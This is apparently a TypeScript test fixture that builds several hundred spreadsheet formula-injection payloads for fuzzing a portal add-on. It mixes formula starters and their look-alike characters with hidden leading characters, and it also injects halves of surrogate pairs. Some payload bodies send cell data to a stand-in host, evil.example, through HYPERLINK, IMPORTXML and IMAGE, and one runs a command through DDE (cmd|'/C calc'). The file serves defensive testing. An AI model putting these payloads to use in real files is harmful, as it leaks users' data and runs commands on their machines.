/**
 * Texts that a spreadsheet, a page, a file or a log would gladly take for something else. Halves of surrogate pairs
 * stand here as `HALVES`: the stand-in portal prints none, so they come in on the wire only.
 */
import fc from 'fast-check';
import type { FaultRule } from '../../../portal/faults';
import type { PortalAnswer } from '../../../portal/http';
import { LOOK_ALIKES } from './look-alikes';

/** Private-use characters that `onTheWire` and `asText` turn into halves of a surrogate pair. */
const HALVES: Readonly<Record<string, string>> = { '\ue000': '\ud83d', '\ue001': '\ude00' };
const HALF = /[\ue000\ue001]/g;

/** The payload as the add-on gets it. */
export const asText = (payload: string): string => payload.replace(HALF, (mark) => HALVES[mark] ?? mark);

/** The same in the JSON of an answer. */
const onTheWire = (json: string): string =>
  json.replace(HALF, (mark) => `\\u${(HALVES[mark] ?? mark).charCodeAt(0).toString(16)}`);

/** For portals that hold payloads: halves of surrogate pairs come in with every answer. */
export const WITH_HALVES: FaultRule = () => (run) => {
  const answer = run() as PortalAnswer;
  return { ...answer, body: onTheWire(answer.body) };
};

/** Formula starters and their full-width, small and typographic look-alikes. */
const STARTERS = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '﹦',
  '﹢',
  '﹣',
  '﹫',
  '−',
  '–',
  "'=",
  '＇=',
  '==',
  '=+',
  '"=',
];

/** What a parser may skip before it looks for a formula. */
const LEADS = [
  ...['', ' ', '  ', '\t', '\r', '\n', '\r\n', '\v', '\f', '\u0000', '\u001f', '\u007f', '\u0085', '\u00a0'],
  ...['\u00ad', '\u180e', '\u200b', '\u200e', '\u2003', '\u202e', '\u2028', '\u2060', '\u3000', '\ufeff'],
  ...["'", "''", '"'],
];

const BODIES = [
  '1+1',
  'SUM(A1:A9)',
  'HYPERLINK("http://evil.example/?x="&A1;"Счёт")',
  'IMPORTXML("http://evil.example","//a")',
  'IMPORTRANGE("1abc";"A1")',
  'IMAGE("http://evil.example/x.png")',
  "cmd|'/C calc'!A0",
  'A1',
  'R1C1',
  "'Полный'!B3",
  'СУММ(1;2)',
  '{1;2}',
  '-1',
  'x',
];

/** Each starter behind each lead, with one body after the other. */
const FORMULAS = LEADS.flatMap((lead, l) =>
  STARTERS.map((starter, s) => lead + starter + (BODIES[(l * 5 + s) % BODIES.length] ?? '')),
);

/** Several hundred, always the same. */
export const PAYLOADS: readonly string[] = [...new Set([...FORMULAS, ...LOOK_ALIKES])];

const PIECES = [
  ...STARTERS,
  ...LEADS,
  ...BODIES,
  '0',
  'а',
  'Z',
  '\ue000',
  '\ue001',
  '<',
  '&',
  '\\',
  '_x003D_',
];

/** Pieces of the above in any order, the same ones for the same seed. */
export const randomPayloads = (seed: number, count: number): readonly string[] =>
  fc.sample(
    fc.array(fc.constantFrom(...PIECES), { minLength: 1, maxLength: 8 }).map((pieces) => pieces.join('')),
    { seed, numRuns: count },
  );

/** A payload as a line of a report can quote it. */
export const quoted = (payload: string): string => {
  const text = JSON.stringify(payload);
  return text.length > 80 ? `${text.slice(0, 60)}… (${payload.length} units)` : text;
};
